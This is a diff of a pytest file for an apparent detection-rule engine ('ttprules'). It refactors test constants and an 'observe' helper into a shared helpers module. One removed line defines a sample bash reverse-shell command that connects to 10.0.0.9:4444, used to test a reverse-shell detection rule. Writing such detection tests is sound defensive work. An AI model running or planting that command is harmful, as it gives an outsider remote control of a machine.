@@ -14,30 +14,22 @@ from ttprules.compiler import CompiledRule
 from ttprules.models import RuleStats, Tag
 from ttprules.store import set_state
 
-from .engine_helpers import DNS_ANYTHING, REVERSE_SHELL, engine_position, load_rules, run_engine, write_rule
-
-SHELL = "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"
-HOST = "stigmem://acme/host/web-1"
+from .engine_helpers import (
+    DNS_ANYTHING,
+    HOST,
+    REVERSE_SHELL,
+    SHELL,
+    engine_position,
+    load_rules,
+    observe,
+    run_engine,
+    write_rule,
+)
 
 
 @pytest.fixture
 def rules(tmp_path, db):
     return load_rules(tmp_path / "rules", R1=REVERSE_SHELL, D1=DNS_ANYTHING)
-
-
-def observe(client, value: str, relation: str = "observed:command", **extra) -> dict:
-    body = {
-        "entity": HOST,
-        "relation": relation,
-        "value": {"type": "string", "v": value},
-        "source": "stigmem://acme/agent/sensor",
-        "confidence": 0.8,
-        "scope": "team",
-        **extra,
-    }
-    response = client.post("/v1/facts", body, format="json")
-    assert response.status_code == 201, response.content
-    return response.json()
 
 
 def stats(rule_id: str) -> RuleStats | None:
